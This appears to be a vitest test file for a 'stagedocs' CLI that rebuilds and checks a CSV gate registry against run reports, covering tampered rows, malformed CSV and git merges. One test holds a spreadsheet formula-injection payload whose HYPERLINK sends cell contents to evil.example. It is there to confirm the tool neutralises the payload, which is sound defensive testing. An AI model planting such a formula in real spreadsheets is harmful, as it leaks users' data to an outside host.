import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { decodeCell, parseCsv } from '../../src/util/csv.js';
import { gateRepo, gateStage, registryText, runFolders } from '../helpers/gates.js';
import { git, runCli } from '../helpers/repo.js';

const S00 = 'stages/mvp/00-foundation.md';
const REGISTRY = 'gate_results/gate_registry.csv';

/** A repository with three finished runs of P1-S00, one of which failed. */
function repoWithRuns(): string {
  const dir = gateRepo({ [S00]: gateStage('  - id: ok\n    run: "true"\n  - id: lint\n    run: "exit 1"\n    severity: warning') });
  for (const hour of ['09', '10', '11']) expect(runCli(dir, ['gate', 'run', 'P1-S00'], { env: { STAGEDOCS_NOW: `2026-11-21T${hour}:00:00Z` } }).code).toBe(0);
  return dir;
}

function lines(dir: string): string[] {
  return registryText(dir).split('\r\n');
}

function writeLines(dir: string, rows: string[]): void {
  writeFileSync(path.join(dir, REGISTRY), rows.join('\r\n'));
}

describe('stagedocs registry', () => {
  it('rebuilds the appended registry byte for byte', () => {
    const dir = repoWithRuns();
    const appended = registryText(dir);
    expect(runCli(dir, ['registry']).code).toBe(0);
    expect(registryText(dir)).toBe(appended);
    writeFileSync(path.join(dir, REGISTRY), 'garbage');
    expect(runCli(dir, ['registry']).stdout).toMatch(/Rebuilt gate_results\/gate_registry\.csv from 3 reports/);
    expect(registryText(dir)).toBe(appended);
    expect(runCli(dir, ['registry', '--check']).code).toBe(0);
  });

  it('names missing, extra, edited and duplicated rows and sha mismatches', () => {
    const dir = repoWithRuns();
    const [header, first, second, third, end] = lines(dir);
    const runs = runFolders(dir);
    writeLines(dir, [header!, first!.replace(',true,0,1,', ',true,0,0,'), third!, third!, `${runs[0]}-x,P1-S00,t,P1,a,b,1,true,0,0,,,false,p,s,true`, end!]);
    const check = runCli(dir, ['registry', '--check']);
    expect(check.code).toBe(1);
    expect(check.stdout).toContain(`${REGISTRY}:2: run \`${runs[0]}\` differs from its report.json in \`warnings\` (edited row)`);
    expect(check.stdout).toContain(`${REGISTRY}:4: run \`${runs[2]}\` is listed again (first on line 3)`);
    expect(check.stdout).toContain(`${REGISTRY}:5: run \`${runs[0]}-x\` has no report.json in gate_results/ (extra row)`);
    expect(check.stdout).toContain(`${REGISTRY}: run \`${runs[1]}\` has a report.json but no row (missing row)`);
    expect(second).toBeDefined();

    expect(runCli(dir, ['registry']).code).toBe(0);
    const reportFile = path.join(dir, 'gate_results', runs[1]!, 'report.json');
    writeFileSync(reportFile, readFileSync(reportFile, 'utf8').replace('"overall_pass": true', '"overall_pass": true '));
    const tampered = runCli(dir, ['registry', '--check', '--format', 'json']);
    expect(tampered.code).toBe(1);
    expect(JSON.parse(tampered.stdout).problems).toEqual([expect.objectContaining({ kind: 'sha-mismatch', line: 3, runId: runs[1] })]);

    // A report that lost a field cannot make a row: it is named, never turned into `undefined` cells.
    writeFileSync(reportFile, readFileSync(reportFile, 'utf8').replace(/"stage_title": "[^"]*",/, ''));
    const broken = runCli(dir, ['registry', '--check']);
    expect(broken.code).toBe(1);
    expect(broken.stdout).toContain(`gate_results/${runs[1]}/report.json: report.json does not match the report schema`);
    expect(broken.stdout).not.toMatch(/extra row/);
  });

  it('accepts rows in another order (a merge=union merge) and says how to reorder them', () => {
    const dir = repoWithRuns();
    const [header, first, second, third, end] = lines(dir);
    writeLines(dir, [header!, third!, first!, second!, end!]);
    const check = runCli(dir, ['registry', '--check']);
    expect(check.code).toBe(0);
    expect(check.stdout).toMatch(/rows are out of order .*run `stagedocs registry` to rebuild/);
    expect(runCli(dir, ['registry']).code).toBe(0);
    expect(runCli(dir, ['registry', '--check']).stdout).not.toMatch(/out of order/);
  });

  it('reports a broken file as malformed, and a missing registry as missing rows', () => {
    const dir = repoWithRuns();
    writeFileSync(path.join(dir, REGISTRY), `${lines(dir)[0]}\r\n"unterminated`);
    expect(runCli(dir, ['registry', '--check']).stdout).toMatch(/:2: not valid CSV: line 2: a quoted cell is never closed/);
    writeFileSync(path.join(dir, REGISTRY), '');
    const empty = runCli(dir, ['registry', '--check', '--format', 'json']);
    expect(empty.code).toBe(1);
    expect(JSON.parse(empty.stdout).problems.map((problem: { kind: string }) => problem.kind)).toEqual(['missing', 'missing', 'missing']);
  });
});

describe('registry cells from untrusted stage text', () => {
  it('neutralises a stage title that a spreadsheet would run as a formula', () => {
    const title = '=HYPERLINK("http://evil.example/?x="&A1, "click, me")';
    const dir = gateRepo({ [S00]: gateStage('  - id: ok\n    run: "true"').replace('title: Stage P1-S00', `title: '${title.replace(/'/g, "''")}'`) });
    expect(runCli(dir, ['gate', 'run', 'P1-S00']).code).toBe(0);
    const text = registryText(dir);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1, ""click, me"")"`);
    const [, row] = parseCsv(text);
    expect(row!.cells[2]).toBe(`'${title}`);
    expect(decodeCell(row!.cells[2]!)).toBe(title);
    // In report.md the same title is inert markdown text.
    const reportMd = readFileSync(path.join(dir, 'gate_results', runFolders(dir)[0]!, 'report.md'), 'utf8');
    // (`http\\:` so that GFM makes no autolink of the URL.)
    expect(reportMd).toContain('| Stage | P1-S00: \\=HYPERLINK("http\\://evil.example/?x="&amp;A1, "click, me") |');
    expect(runCli(dir, ['registry', '--check']).code).toBe(0);
  });
});

describe('registry across branches', () => {
  it('accepts a merge=union merge of two branches that both appended rows', () => {
    const dir = gateRepo({ [S00]: gateStage('  - id: ok\n    run: "true"') }, { '.gitattributes': 'gate_results/gate_registry.csv merge=union\n' });
    expect(runCli(dir, ['gate', 'run', 'P1-S00'], { env: { STAGEDOCS_NOW: '2026-11-21T08:00:00Z' } }).code).toBe(0);
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'base run');
    git(dir, 'checkout', '-q', '-b', 'other');
    expect(runCli(dir, ['gate', 'run', 'P1-S00'], { env: { STAGEDOCS_NOW: '2026-11-21T10:00:00Z' } }).code).toBe(0);
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'run on other');
    git(dir, 'checkout', '-q', 'main');
    expect(runCli(dir, ['gate', 'run', 'P1-S00'], { env: { STAGEDOCS_NOW: '2026-11-21T09:00:00Z' } }).code).toBe(0);
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'run on main');
    git(dir, 'merge', '-q', '--no-edit', 'other');

    const rows = parseCsv(registryText(dir));
    expect(rows).toHaveLength(4);
    const check = runCli(dir, ['registry', '--check']);
    expect(check.code).toBe(0);
    expect(check.stdout).toMatch(/3 rows agree with the reports/);
    expect(runCli(dir, ['validate', '--format', 'json']).stdout).not.toMatch(/registry-consistent/);
  });
});
